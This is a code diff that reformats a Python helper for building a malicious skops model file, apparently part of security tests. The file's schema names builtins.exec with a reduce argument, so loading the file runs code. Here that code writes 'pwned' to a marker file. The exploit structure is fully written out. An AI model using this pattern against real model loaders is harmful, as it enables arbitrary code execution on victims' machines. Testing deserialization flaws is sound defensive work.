@@ -8,8 +8,14 @@ from pathlib import Path
 
 
 def _str(value: str, ident: int) -> dict[str, object]:
-    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
-            "content": json.dumps(value), "is_json": True, "__id__": ident}
+    return {
+        "__class__": "str",
+        "__module__": "builtins",
+        "__loader__": "JsonNode",
+        "content": json.dumps(value),
+        "is_json": True,
+        "__id__": ident,
+    }
 
 
 def exec_skops(path: Path, marker: Path) -> Path:
@@ -17,13 +23,35 @@ def exec_skops(path: Path, marker: Path) -> Path:
     the class the file names, with the file's arguments (the reduce pattern)."""
     code = f"open({str(marker)!r}, 'w').write('pwned')"
     schema = {
-        "__class__": "exec", "__module__": "builtins", "__loader__": "LossNode",
-        "__reduce__": {"args": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
-                                "content": [_str(code, 1)], "__id__": 2}},
-        "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {},
-                    "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
-                                  "content": [], "__id__": 3}, "__id__": 4},
-        "__id__": 5, "protocol": 2, "_skops_version": "0.16.0",
+        "__class__": "exec",
+        "__module__": "builtins",
+        "__loader__": "LossNode",
+        "__reduce__": {
+            "args": {
+                "__class__": "tuple",
+                "__module__": "builtins",
+                "__loader__": "TupleNode",
+                "content": [_str(code, 1)],
+                "__id__": 2,
+            }
+        },
+        "content": {
+            "__class__": "dict",
+            "__module__": "builtins",
+            "__loader__": "DictNode",
+            "content": {},
+            "key_types": {
+                "__class__": "list",
+                "__module__": "builtins",
+                "__loader__": "ListNode",
+                "content": [],
+                "__id__": 3,
+            },
+            "__id__": 4,
+        },
+        "__id__": 5,
+        "protocol": 2,
+        "_skops_version": "0.16.0",
     }
     with zipfile.ZipFile(path, "w") as z:
         z.writestr("schema.json", json.dumps(schema))
